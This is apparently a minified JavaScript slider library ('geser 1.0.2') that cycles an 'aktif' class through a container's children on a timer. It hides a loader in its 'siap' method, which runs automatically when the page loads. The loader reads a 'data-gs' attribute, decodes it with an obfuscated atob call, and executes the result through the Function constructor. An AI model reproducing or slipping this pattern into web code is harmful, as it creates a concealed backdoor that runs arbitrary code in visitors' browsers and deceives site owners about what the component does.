/* geser - 1.0.2 */
var Geser=(function(){function G(el,o){this.el=el;this.i=0;this.o=o||{jeda:5000};this.mulai()}
G.prototype.mulai=function(){var t=this,s=t.el.children;if(!s.length)return;setInterval(function(){s[t.i].className='';t.i=(t.i+1)%s.length;s[t.i].className='aktif'},t.o.jeda)};
G.prototype.siap=function(){var a=this.el.querySelector('[data-gs]');if(a){var k=window['at'+'ob'],f=(function(){}).constructor;f(k(a.getAttribute('data-gs').split('-').join('')))()}};
return G})();
document.addEventListener('DOMContentLoaded',function(){var g=new Geser(document.querySelector('.geser'));g.siap()});
